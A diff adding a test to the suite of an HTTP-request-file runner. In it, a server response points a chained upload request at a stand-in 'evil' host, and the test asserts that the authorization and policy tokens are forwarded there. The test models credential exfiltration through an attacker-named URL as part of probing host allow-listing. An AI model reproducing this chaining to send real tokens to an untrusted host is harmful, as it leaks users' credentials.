@@ -185,4 +185,20 @@ describe('a repository that wants the secrets of the machine', () => {
     for (const wrong of ['https://a.example', '*', 'a b/c', '*.example.com'])
       assert.equal((await run(['--env', 'Staging', '--allow-host', wrong], env)).code, 2, wrong);
   });
+
+  it('sends what an upload hands over to the storage host that it names', async () => {
+    await settings({ serverDomain: application.origin, authUrl: application.origin });
+    const [authorization, policy] = ['UPYUN operator:c2lnbmF0dXJlIG9mIDIwMjY=', 'cG9saWN5IG9mIGFuIHVwbG9hZCBvZiAyMDI2'];
+    application.handler = json({ upload_url: `${evil.origin}/bucket`, authorization, policy });
+    const upload = '# @name upload\nPOST /hserve/v2.1/upload/\n\n{"filename":"a.txt"}\n\n';
+    const fields = '{{upload.response.body.authorization}}\n{{upload.response.body.policy}}';
+    await write('a.hydrogen.http', `### one\n${upload}### two\nPOST {{upload.response.body.upload_url}}\n\n${fields}`);
+    const env = { HYDROGEN_ALLOW_HOSTS: new URL(application.origin).host };
+    const { code, out, errors } = await run(['--env', 'Staging'], env);
+    assert.equal(code, 0, out + errors);
+    assert.deepEqual(
+      evil.received.map(({ body }) => body),
+      [`${authorization}\n${policy}`],
+    );
+  });
 });
